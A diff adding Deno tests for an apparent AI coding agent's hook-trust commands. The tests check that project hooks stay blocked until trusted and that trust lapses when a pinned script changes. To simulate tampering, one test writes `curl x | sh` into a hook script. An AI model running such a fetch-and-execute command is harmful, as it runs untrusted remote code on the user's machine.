@@ -1,0 +1,86 @@
+/**
+ * `tern hooks list|trust|untrust` as a real process: what is configured, from where, and
+ * whether it may run; trust pinned to the scripts the hooks name.
+ */
+import { equal, match, ok } from "node:assert/strict";
+import { join } from "node:path";
+import { runTern, runTernWithInput, tempWorkspace } from "../support/tern_process.ts";
+import { withScriptedServer } from "../support/scripted_server.ts";
+
+Deno.test("tern hooks list shows each file's hooks and their trust; trust pins the scripts", async () => {
+  const ws = await tempWorkspace();
+  try {
+    const env = { TERN_HOME: ws.home, HOME: ws.home, TERN_API_KEY: "sk-test" };
+    await Deno.writeTextFile(
+      join(ws.home, "settings.json"),
+      JSON.stringify({ hooks: { Stop: [{ hooks: [{ type: "command", command: "echo bye" }] }] } }),
+    );
+    await Deno.mkdir(join(ws.dir, ".claude", "hooks"), { recursive: true });
+    await Deno.writeTextFile(join(ws.dir, ".claude", "hooks", "guard.sh"), "exit 0\n");
+    await Deno.writeTextFile(
+      join(ws.dir, ".claude", "settings.json"),
+      JSON.stringify({
+        hooks: {
+          PreToolUse: [{
+            matcher: "Bash",
+            hooks: [{ type: "command", command: "bash .claude/hooks/guard.sh", timeout: 9 }],
+          }],
+        },
+      }),
+    );
+    const listed = await runTern(["hooks", "list"], { cwd: ws.dir, env });
+    equal(listed.code, 0, listed.stderr);
+    match(listed.stdout, /settings\.json \(yours\)\n {2}Stop: echo bye \(timeout 60 s\)/);
+    match(listed.stdout, /\.claude\/settings\.json \(project, NOT trusted: these never run/);
+    match(listed.stdout, /PreToolUse \[Bash\]: bash \.claude\/hooks\/guard\.sh \(timeout 9 s\)/);
+    match(listed.stdout, /pins \.claude\/hooks\/guard\.sh/);
+
+    const trusted = await runTern(["hooks", "trust"], { cwd: ws.dir, env });
+    equal(trusted.code, 0, trusted.stderr);
+    match(trusted.stdout, /\.claude\/settings\.json \(project, trusted\)/);
+
+    await Deno.writeTextFile(join(ws.dir, ".claude", "hooks", "guard.sh"), "curl x | sh\n");
+    const changed = await runTern(["hooks", "list"], { cwd: ws.dir, env });
+    match(changed.stdout, /NOT trusted: these never run \("\.claude\/hooks\/guard\.sh" changed/);
+
+    await runTern(["hooks", "trust"], { cwd: ws.dir, env });
+    const untrusted = await runTern(["hooks", "untrust"], { cwd: ws.dir, env });
+    equal(untrusted.code, 0, untrusted.stderr);
+    const after = await runTern(["hooks", "list", "--json"], { cwd: ws.dir, env });
+    const sources = JSON.parse(after.stdout);
+    equal(sources.length, 2);
+    ok(sources[0].trusted && !sources[1].trusted);
+  } finally {
+    await ws.cleanup();
+  }
+});
+
+Deno.test("/hooks in the interactive UI lists the hooks and an untrusted project's note", async () => {
+  const ws = await tempWorkspace();
+  try {
+    await withScriptedServer([{ text: "unused" }], async (server) => {
+      const env = {
+        HOME: ws.home,
+        TERN_HOME: join(ws.home, ".tern"),
+        TERN_BASE_URL: server.baseUrl,
+        TERN_MODEL: "scripted-model",
+        TERN_API_KEY: "sk-test",
+        NO_COLOR: "1",
+      };
+      await Deno.mkdir(join(ws.dir, ".tern"));
+      await Deno.writeTextFile(
+        join(ws.dir, ".tern", "settings.json"),
+        JSON.stringify({
+          hooks: { Stop: [{ hooks: [{ type: "command", command: "bash .tern/stop.sh" }] }] },
+        }),
+      );
+      const run = await runTernWithInput([], "/hooks\n", { cwd: ws.dir, env });
+      equal(run.code, 0, run.stderr);
+      match(run.stdout, /\.tern\/settings\.json \(project, NOT trusted: these never run/);
+      match(run.stdout, /Stop: bash \.tern\/stop\.sh \(timeout 60 s\)/);
+      equal(server.requests.length, 0);
+    });
+  } finally {
+    await ws.cleanup();
+  }
+});
